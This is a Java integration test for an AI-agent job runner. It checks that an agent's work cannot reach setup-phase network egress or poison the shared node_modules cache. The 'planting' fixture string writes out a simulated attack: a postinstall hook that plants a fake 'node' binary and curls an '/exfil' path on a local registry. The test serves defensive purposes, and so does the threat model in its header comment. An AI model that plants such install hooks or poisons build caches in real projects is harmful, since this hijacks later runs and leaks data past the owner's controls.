package ai.spboucher.spbgit.runner;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ai.spboucher.spbgit.runner.env.NpmPackage;
import ai.spboucher.spbgit.runner.env.NpmRegistry;
import ai.spboucher.spbgit.runner.env.OwnAddress;
import ai.spboucher.spbgit.runner.env.ServedRequest;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.net.InetAddress;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Agent-written work never reaches a setup phase, the setup egress or the cache, on the real
 * gateway, runner, Docker engine and the node image's real {@code npm ci} against a registry served
 * on this machine's own address. The attack: a job's work adds a {@code postinstall} script to
 * {@code package.json} (the lockfile unchanged, so the cache key stays the default branch's) that
 * calls the setup egress host and plants a {@code node} on {@code node_modules/.bin}, which {@code
 * npm test} would run first; the owner then turns the cache on and asks for changes. The revision's
 * setup runs on the chain's original base (the owner's commit), not on the work: the registry never
 * hears from the script, the cache entry it keeps is clean and says who produced it, and a later
 * job of the default branch restores it and runs the real {@code node}. Setup's own changes in the
 * checkout (a project {@code .npmrc} written by {@code npm config set}, a tracked file it rewrites)
 * are listed for the owner and never proposed.
 */
class TrustedSetupIT {

  private static final String REPO = "trusted";

  @TempDir static Path tmp;
  static JobTestBed bed;
  static InetAddress address;
  static NpmRegistry registry;

  @BeforeAll
  static void start() throws Exception {
    JobTestBed.requireDocker();
    address = OwnAddress.nonLoopbackIpv4();
    NpmPackage dependency =
        NpmPackage.named("spb-trusted-dep", "1.0.0")
            .indexJs("module.exports = { answer: 42 };\n")
            .build();
    registry = NpmRegistry.serve(address, dependency);
    bed = JobTestBed.start(tmp, "5m");
    bed.startRunner(
        "trusted",
        Map.of(
            "SPB_IMAGES",
            "base=spbgit/agent:latest,node=spbgit/agent-node:latest",
            "SPB_LIMIT_DISK",
            "256m",
            "SPB_LIMIT_MEMORY",
            "768m",
            "SPB_LIMIT_PIDS",
            "256",
            "SPB_CACHE_SIZE",
            "128m"));
  }

  @AfterAll
  static void stop() throws Exception {
    if (bed != null) {
      bed.close();
    }
    if (registry != null) {
      registry.close();
    }
  }

  @Test
  void aRevisionsSetupRunsOnTheOwnersCommitSoAgentWorkNeverReachesTheEgressOrTheCache()
      throws Exception {
    String host = address.getHostAddress() + ":" + registry.port();
    Map<String, String> files = new java.util.HashMap<>(nodeProject());
    files.put(".spbgit/agent.yml", environment(host, false));
    bed.createRepo(REPO, files);

    // The agent's work: an install script the default branch never had, the lockfile untouched.
    String planting =
        "printf '#!/bin/sh\\necho PLANTED-NODE\\nexit 0\\n' > planted-node && "
            + "printf 'mkdir -p node_modules/.bin && cp planted-node node_modules/.bin/node && "
            + "chmod +x node_modules/.bin/node; curl -s -m 5 http://"
            + host
            + "/exfil-from-postinstall || true\\n' > plant.sh && "
            + "node -e \"const p=require('./package.json');p.scripts.postinstall='sh plant.sh';"
            + "require('fs').writeFileSync('package.json', JSON.stringify(p, null, 2))\"";
    String first = create(planting);
    JsonObject firstJob = bed.await(REPO, first, "finished", Duration.ofMinutes(4));
    assertEquals("ok", firstJob.getString("exit_reason"), bed.log(first));
    String trustedBase = firstJob.getString("base_sha");

    // The owner turns the cache on, then asks for changes on the work.
    pushEnvironment(environment(host, true));
    HttpResponse<String> revised =
        bed.gateway.api(
            "POST",
            "/api/v1/repos/" + REPO + "/agent-jobs/" + first + "/revise",
            bed.gateway.ownerToken,
            new JsonObject().put("task", "tidy up").put("exec", "echo tidy > TIDY.md").encode());
    assertEquals(201, revised.statusCode(), revised.body());
    String revision = new JsonObject(revised.body()).getString("id");
    JsonObject revisionJob = bed.await(REPO, revision, "finished", Duration.ofMinutes(4));
    String revisionLog = bed.log(revision);
    assertEquals("ok", revisionJob.getString("exit_reason"), revisionLog);
    assertTrue(revisionLog.contains("cache miss "), revisionLog);
    assertTrue(
        revisionLog.contains("cloned main at " + trustedBase + " for setup"),
        "setup ran on the chain's original base: " + revisionLog);
    assertTrue(revisionLog.contains("revision: working on "), revisionLog);
    assertTrue(revisionLog.contains("tests passed"), revisionLog);
    assertFalse(revisionLog.contains("PLANTED-NODE"), revisionLog);
    assertExfiltratedNothing();
    // The revision's own proposal holds its change on top of the work it revised.
    Path repo = bed.gateway.repoDir(REPO);
    String proposal = revisionJob.getString("proposal_sha");
    assertTrue(
        bed.git
            .ok(repo, "show", proposal + ":package.json")
            .output()
            .contains("\"postinstall\": \"sh plant.sh\""),
        "the revised work is there");
    assertEquals(
        "tidy",
        bed.git.ok(repo, "show", proposal + ":TIDY.md").output().strip(),
        "and the revision's change on top");
    // The page warns that the lockfile's dependencies are not what ran: here it is unchanged.
    JsonObject diff = diff(revision);
    assertEquals(new JsonArray(), diff.getJsonArray("changes_cache_key_files"), diff.encode());

    // A later job of the default branch restores the entry the revision kept: clean, with its
    // producer recorded and shown.
    String later = create("echo later > LATER.md");
    JsonObject laterJob = bed.await(REPO, later, "finished", Duration.ofMinutes(4));
    String laterLog = bed.log(later);
    assertEquals("ok", laterJob.getString("exit_reason"), laterLog);
    assertEquals("hit", laterJob.getString("cache"), laterLog);
    assertFalse(laterLog.contains("PLANTED-NODE"), laterLog);
    assertTrue(laterLog.contains("the real node ran"), laterLog);
    JsonObject setup = laterJob.getJsonObject("setup");
    assertEquals(revision, setup.getJsonObject("cache_producer").getString("job"), setup.encode());
    assertEquals(
        trustedBase, setup.getJsonObject("cache_producer").getString("commit"), setup.encode());
    assertTrue(setup.getString("cache_key").length() > 16, setup.encode());
    JsonObject started = bed.gateway.auditEntry(later, "job_started");
    assertEquals(setup.getString("cache_key"), started.getString("cache_key"), started.encode());
    assertEquals(revision, started.getJsonObject("cache_producer").getString("job"));
    assertExfiltratedNothing();
  }

  @Test
  void setupsOwnChangesInTheCheckoutAreListedAndNeverProposed() throws Exception {
    String host = address.getHostAddress() + ":" + registry.port();
    Map<String, String> files = new java.util.HashMap<>(nodeProject());
    files.remove(".npmrc");
    files.put("NOTES.md", "owner's notes\n");
    // Setup writes a project .npmrc (npm config set --location=project) and rewrites a tracked
    // file.
    files.put(
        ".spbgit/agent.yml",
        "image: node\n"
            + "setup: |\n"
            + "  cd /work/repo && npm ci --no-audit --no-fund --registry "
            + registry.url()
            + " && "
            + "npm config set --location=project fund false && echo generated >> NOTES.md\n"
            + "setup_egress:\n  - \""
            + host
            + "\"\n"
            + "test: cd /work/repo && npm test\n");
    bed.createRepo("setup-output", files);
    HttpResponse<String> created =
        bed.createJob(
            "setup-output",
            new JsonObject()
                .put("task", "the agent's change")
                // The job commits on its own, as agents do: git commit -a takes setup's change too.
                .put(
                    "exec",
                    "echo agent > AGENT.md && git add AGENT.md && git commit -qam 'own commit'"));
    assertEquals(201, created.statusCode(), created.body());
    String id = new JsonObject(created.body()).getString("id");
    JsonObject job = bed.await("setup-output", id, "finished", Duration.ofMinutes(4));
    String log = bed.log(id);
    assertEquals("ok", job.getString("exit_reason"), log);
    Path repo = bed.gateway.repoDir("setup-output");
    String proposal = job.getString("proposal_sha");
    List<String> changed =
        bed.git
            .ok(repo, "diff", "--name-only", job.getString("base_sha"), proposal)
            .output()
            .lines()
            .toList();
    assertEquals(List.of("AGENT.md"), changed, "exactly the agent phase's change: " + log);
    List<String> setupChanges =
        job.getJsonObject("setup").getJsonArray("setup_changes").stream()
            .map(String::valueOf)
            .toList();
    assertTrue(setupChanges.contains(" M NOTES.md"), setupChanges.toString());
    assertTrue(setupChanges.contains("?? .npmrc"), setupChanges.toString());
    assertTrue(setupChanges.contains("?? node_modules/"), setupChanges.toString());
    assertTrue(log.contains("setup changed in the checkout (kept out of the proposal)"), log);
  }

  private static void assertExfiltratedNothing() {
    List<ServedRequest> requests = registry.requests();
    assertFalse(
        requests.stream().anyMatch(r -> r.path().contains("exfil")),
        "the work's install script reached the setup egress: " + requests);
  }

  private static String create(String exec) throws Exception {
    HttpResponse<String> created =
        bed.createJob(
            REPO, new JsonObject().put("task", "job").put("exec", exec).put("test_command", ""));
    assertEquals(201, created.statusCode(), created.body());
    return new JsonObject(created.body()).getString("id");
  }

  private static JsonObject diff(String job) throws Exception {
    HttpResponse<String> diff =
        bed.gateway.api(
            "GET",
            "/api/v1/repos/" + REPO + "/agent-jobs/" + job + "/diff",
            bed.gateway.ownerToken,
            null);
    assertEquals(200, diff.statusCode(), diff.body());
    return new JsonObject(diff.body());
  }

  /** A node project depending on the registry's package, with a real lockfile npm ci accepts. */
  private static Map<String, String> nodeProject() throws Exception {
    String packageJson =
        "{\n  \"name\": \"trusted\",\n  \"version\": \"1.0.0\",\n  \"private\": true,\n"
            + "  \"scripts\": {\"test\": \"node test.js\"},\n"
            + "  \"dependencies\": {\"spb-trusted-dep\": \"1.0.0\"}\n}\n";
    Path dir = Files.createTempDirectory(tmp, "lock");
    Files.writeString(dir.resolve("package.json"), packageJson);
    Files.writeString(dir.resolve(".npmrc"), "registry=" + registry.url() + "\n");
    Process npm =
        new ProcessBuilder(
                "npm",
                "install",
                "--package-lock-only",
                "--no-audit",
                "--no-fund",
                "--userconfig",
                dir.resolve("user-npmrc").toString())
            .directory(dir.toFile())
            .redirectErrorStream(true)
            .redirectOutput(dir.resolve("npm.log").toFile())
            .start();
    assertTrue(npm.waitFor(120, TimeUnit.SECONDS), "npm install --package-lock-only hung");
    assertEquals(0, npm.exitValue(), Files.readString(dir.resolve("npm.log")));
    return Map.of(
        "package.json",
        packageJson,
        "package-lock.json",
        Files.readString(dir.resolve("package-lock.json")),
        ".npmrc",
        "registry=" + registry.url() + "\n",
        "test.js",
        "if (require('spb-trusted-dep').answer !== 42) process.exit(1);\n"
            + "console.log('the real node ran');\n");
  }

  private static String environment(String host, boolean cache) {
    return "image: node\n"
        + "setup: cd /work/repo && npm ci --no-audit --no-fund\n"
        + "setup_egress:\n  - \""
        + host
        + "\"\n"
        + (cache
            ? "cache:\n  - /work/repo/node_modules\ncache_key_files:\n  - package-lock.json\n"
            : "")
        + "test: cd /work/repo && npm test\n";
  }

  private static void pushEnvironment(String environment) throws Exception {
    Path clone = tmp.resolve("owner-clone");
    bed.git.ok(tmp, "clone", "-q", bed.gateway.repoUrl(REPO), clone.toString());
    Files.writeString(clone.resolve(".spbgit/agent.yml"), environment);
    bed.git.ok(clone, "commit", "-q", "-am", "cache node_modules");
    bed.git.ok(clone, "push", "-q", bed.gateway.pushUrl(REPO, bed.gateway.ownerToken), "main");
  }
}
